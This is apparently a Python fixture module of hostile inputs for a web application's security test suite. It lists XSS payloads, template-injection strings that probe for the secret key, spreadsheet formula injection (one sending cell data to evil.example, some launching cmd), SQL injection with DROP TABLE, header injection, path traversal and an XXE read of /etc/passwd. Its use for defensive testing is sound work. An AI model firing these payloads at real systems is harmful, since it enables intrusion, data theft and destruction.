"""Hostile input for the hostile-input suite (tests/security/test_hostile_input.py and
tests/browser/test_hostile_input_browser.py). Our own list, grouped by what it tries.

Markup payloads that would create an element carry the attribute `data-xss`, and script
payloads call `alert(…)`: the browser test fails on any `[data-xss]` element in the page and
on any dialog. `UNSTORABLE` payloads (NUL, lone UTF-16 surrogates) must be refused with a
4xx / form error; every other payload must be stored as typed and shown as text."""

from __future__ import annotations

MARKUP = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js data-xss></SCRIPT>",
    "\"><script>alert('xss-2')</script>",
    "'><img src=x onerror=alert('xss-3') data-xss>",
    "<img src=x onerror=alert('xss-4') data-xss>",
    "<svg onload=alert('xss-5') data-xss>",
    "<svg><script>alert('xss-6')</script></svg>",
    "<iframe srcdoc=\"<script>alert('xss-7')</script>\" data-xss></iframe>",
    "<body onload=alert('xss-8') data-xss>",
    "<details open ontoggle=alert('xss-9') data-xss>",
    "<input autofocus onfocus=alert('xss-10') data-xss>",
    "<a href=\"javascript:alert('xss-11')\" data-xss>click</a>",
    "javascript:alert('xss-12')",
    "JaVaScRiPt:alert('xss-13')",
    "<math><mi xlink:href=\"javascript:alert('xss-14')\" data-xss>m</mi></math>",
    "<object data=\"javascript:alert('xss-15')\" data-xss></object>",
    "<embed src=\"javascript:alert('xss-16')\" data-xss>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-17\')" data-xss>',
    '<base href="//evil.example/" data-xss>',
    '<form action="//evil.example/" data-xss><button>go</button></form>',
    "<style data-xss>*{display:none}</style>",
    "</textarea><script>alert('xss-18')</script>",
    "</title><script>alert('xss-19')</script>",
    "</script><script>alert('xss-20')</script>",
    "<!--<img src=x onerror=alert('xss-21') data-xss>-->",
    "<template><img src=x onerror=alert('xss-22') data-xss></template>",
    "&lt;script&gt;alert('xss-23')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('xss-24') data-xss&#62;",
    "[click](javascript:alert('xss-25'))",
    '" onmouseover="alert(\'xss-26\')" data-xss="',
    "' autofocus onfocus='alert(`xss-27`)' data-xss='",
    '<div hx-get="/settings/" hx-trigger="load" data-xss>htmx</div>',
]

TEMPLATE_SYNTAX = [
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load static %}{% static 'x' %}",
    "{{case_reference}} {{ customer_name }} {{status_url}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ settings.SECRET_KEY }}",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "-2+3+cmd|' /C calc'!A0",
]

UNICODE = [
    "\u202eevil\u202c",
    "abc\u202edcba.exe",
    "\u2066isolate\u2069 \u200f rtl \u200e ltr",
    "zero\u200bwidth\u200c\u200d\ufeffjoiners",
    "Z\u0351\u0337a\u0336l\u0335g\u0334o",
    "emoji \U0001f600 \U0001f4a9 flags \U0001f1e9\U0001f1ea",
    "line\u2028separator\u2029paragraph",
    "next\u0085line",
    "\u0645\u0631\u062d\u0628\u0627 Arabic",
    "Ｆｕｌｌｗｉｄｔｈ ＜script＞",
]

INJECTION = [
    "' OR '1'='1' --",
    '"; DROP TABLE cases_case; --',
    "100% _wild_ \\escaped\\ %%",
    "x\r\nBcc: victim@example.org",
    "x\nSubject: injected",
    "x\rX-Injected: 1",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    ']]><!ENTITY x SYSTEM "file:///etc/passwd">',
    "null",
    "undefined",
    "NaN",
]

LONG = [
    "A" * 10_000,
    "<" * 5_000,
    "Ä" * 2_000,
]

UNSTORABLE = [
    "nul\x00byte",
    "\x00",
    "lone \ud800 high surrogate",
    "lone \udfff low surrogate",
    "\udc80\udcff",
]

STORABLE = MARKUP + TEMPLATE_SYNTAX + FORMULAS + UNICODE + INJECTION + LONG
PAYLOADS = STORABLE + UNSTORABLE
SHORT = [payload for payload in STORABLE if len(payload) <= 200]

# A cross-section (every group) for the second and later free-text fields of a form; the
# first field of each form, the API and e-mail get every payload.
CORE = [
    *MARKUP[::3],
    *TEMPLATE_SYNTAX[:3],
    *FORMULAS[::3],
    *UNICODE[::3],
    *INJECTION[3:6],
    LONG[0],
    *UNSTORABLE,
]

assert len(PAYLOADS) >= 60, len(PAYLOADS)


def unstorable(text: str) -> bool:
    return "\x00" in text or any(0xD800 <= ord(char) <= 0xDFFF for char in text)
